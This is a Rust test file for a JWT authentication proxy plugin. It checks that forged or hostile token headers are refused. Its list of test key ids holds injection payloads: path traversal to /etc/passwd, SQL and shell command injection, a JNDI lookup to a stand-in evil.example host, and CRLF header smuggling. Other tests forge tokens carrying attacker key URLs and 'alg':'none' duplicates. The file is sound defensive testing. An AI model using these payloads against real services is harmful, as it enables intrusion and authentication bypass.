//! Headers that bring a key along, name another, or ask for something.

use crate::common::{
    claims, is_denied, is_denied_in, passes, present, provider_with, reasons, start, with,
};
use crate::forge::{provider_of, secret_jwk};
use crate::keys::{EC, FOREIGN, RSA_KEY};
use serde_json::{Value, json};
use tollgate_jwt_auth::JwtAuth;
use tollgate_testkit::Proxy;
use tollgate_testkit::abi::LogLevel;

/// Key ids that mean something to a file system, a database, a shell, a log.
fn injections() -> Vec<String> {
    let mut kids: Vec<_> = [
        "../../../../../../dev/null",
        "/dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "file:///etc/passwd",
        "https://evil.example/jwks.json",
        "x' UNION SELECT 'AA' -- ",
        "'; DROP TABLE keys; --",
        "$(id)",
        "|id",
        "{{7*7}}",
        "${jndi:ldap://evil.example/x}",
        "%00",
        "\0",
        "ec-1\0",
        "\0ec-1",
        " ec-1",
        "EC-1",
        "ec-1\r\nx-user: admin",
        "\u{1b}[31m",
        "\u{202e}1-ce",
        "\u{435}c-1",
        "constructor",
        "__proto__",
        "0",
    ]
    .map(str::to_owned)
    .into();
    kids.push("k".repeat(5000));
    kids
}

#[tollgate_testkit::test(JwtAuth)]
fn a_key_id_is_only_compared(proxy: &mut Proxy) {
    proxy.log_level(LogLevel::Debug);
    start(proxy, provider_with(json!({})));
    for kid in injections() {
        let token = EC.sign_with(&json!({ "alg": "ES256", "kid": kid }), &claims(json!({})));
        let exchange = present(proxy, &token);
        is_denied_in(&exchange, reasons::NO_KEY, &kid);
        let response = exchange.response();
        assert_eq!(response.header("x-user"), None);
    }
    let log = proxy.log();
    assert_eq!(log.len(), injections().len());
    for line in log {
        assert!(
            line.message.chars().all(|c| c.is_ascii() && !c.is_ascii_control()),
            "{}",
            line.message
        );
        assert!(line.message.len() < 200, "{}", line.message);
    }
    assert_eq!(proxy.pending_calls(), 0);
}

#[tollgate_testkit::test(JwtAuth)]
fn a_key_id_that_is_no_string_is_refused(proxy: &mut Proxy) {
    start(proxy, provider_with(json!({})));
    for kid in [json!(7), json!(null), json!(true), json!(["ec-1"]), json!({ "ec-1": 1 })] {
        let token = EC.sign_with(&json!({ "alg": "ES256", "kid": kid }), &claims(json!({})));
        is_denied_in(&present(proxy, &token), reasons::KID, &kid.to_string());
    }
}

/// The way of `/dev/null`: an empty key that anybody knows.
#[tollgate_testkit::test(JwtAuth)]
fn an_empty_secret_is_no_key(proxy: &mut Proxy) {
    for secret in [&[][..], &[0]] {
        let provider = provider_of(&[secret_jwk(secret)], json!({ "algorithms": ["HS256"] }));
        let refusal = proxy.try_configure(crate::common::protected_by(provider)).unwrap_err();
        assert!(refusal.contains("[k] has less than 32 bytes"), "{refusal}");
    }
}

/// Whoever signs must not say with which key (RFC 8725, 3.10).
#[tollgate_testkit::test(JwtAuth)]
fn key_material_in_a_token_is_no_key(proxy: &mut Proxy) {
    start(proxy, provider_with(json!({})));
    let url = "https://evil.example/keys";
    let all = json!({ "jwk": FOREIGN.jwk(), "jku": url, "x5u": url, "x5c": ["MIIB"], "x5t": "AA", "x5t#S256": "AA" });
    let one = |name: &str| json!({ name: all[name] });
    for members in [one("jwk"), one("jku"), one("x5u"), one("x5c"), all.clone()] {
        for kid in [json!("ec-1"), Value::Null] {
            let header =
                with(with(json!({ "alg": "ES256" }), members.clone()), json!({ "kid": kid }));
            let forged = FOREIGN.sign_with(&header, &claims(json!({})));
            is_denied_in(&present(proxy, &forged), reasons::WRONG, &header.to_string());
            // Nor is it a reason to refuse.
            passes(&present(proxy, &EC.sign_with(&header, &claims(json!({})))));
        }
    }
    // Its own key id leads nowhere.
    let header = json!({ "alg": "ES256", "kid": FOREIGN.kid(), "jwk": FOREIGN.jwk() });
    is_denied(&present(proxy, &FOREIGN.sign_with(&header, &claims(json!({})))), reasons::NO_KEY);
    assert_eq!(proxy.pending_calls(), 0);
}

#[tollgate_testkit::test(JwtAuth)]
fn what_a_header_calls_critical_is_refused_whatever_it_is(proxy: &mut Proxy) {
    start(proxy, provider_with(json!({})));
    for crit in [
        json!([]),
        json!(["exp"]),
        json!(["alg"]),
        json!(["b64"]),
        json!(["http://example.invalid/UNDEFINED"]),
        json!("exp"),
        json!(null),
        json!(7),
        json!({}),
        json!([["exp"]]),
        json!([""]),
    ] {
        let header = json!({ "alg": "ES256", "crit": crit, "exp": 1, "b64": true });
        let token = EC.sign_with(&header, &claims(json!({})));
        is_denied_in(&present(proxy, &token), reasons::CRIT, &crit.to_string());
    }
}

#[tollgate_testkit::test(JwtAuth)]
fn an_unencoded_or_compressed_payload_is_refused(proxy: &mut Proxy) {
    start(proxy, provider_with(json!({})));
    let header = crate::keys::base64url(r#"{"alg":"ES256","b64":false}"#);
    let unencoded = EC.sign_sections(&format!(r#"{header}.{{"sub":"root"}}"#));
    is_denied(&present(proxy, &unencoded), reasons::B64);
    for (member, reason) in [
        (json!({ "b64": false }), reasons::B64),
        (json!({ "b64": 0 }), reasons::B64),
        (json!({ "b64": null }), reasons::B64),
        (json!({ "zip": "DEF" }), reasons::ZIP),
        (json!({ "zip": null }), reasons::ZIP),
    ] {
        let header = with_member(&member);
        is_denied_in(
            &present(proxy, &EC.sign_bytes(header, claims(json!({})).to_string())),
            reason,
            &member.to_string(),
        );
    }
}

/// A header of ES256 and a member that may be `null`.
fn with_member(member: &Value) -> String {
    member.to_string().replacen('{', r#"{"alg":"ES256","#, 1)
}

#[tollgate_testkit::test(JwtAuth)]
fn a_header_that_says_two_things_is_refused(proxy: &mut Proxy) {
    start(proxy, provider_of(&[EC.jwk(), RSA_KEY.jwk()], json!({})));
    for header in [
        r#"{"alg":"ES256","alg":"none"}"#,
        r#"{"alg":"none","alg":"ES256"}"#,
        r#"{"alg":"none","\u0061lg":"ES256"}"#,
        r#"{"alg":"ES256","kid":"x","kid":"ec-1"}"#,
        r#"{"alg":"ES256","crit":["x"],"crit":[]}"#,
        r#"{"alg":"ES256","x":{"a":1,"a":2}}"#,
    ] {
        let token = EC.sign_bytes(header, claims(json!({})).to_string());
        is_denied_in(&present(proxy, &token), reasons::HEADER_JSON, header);
    }
}
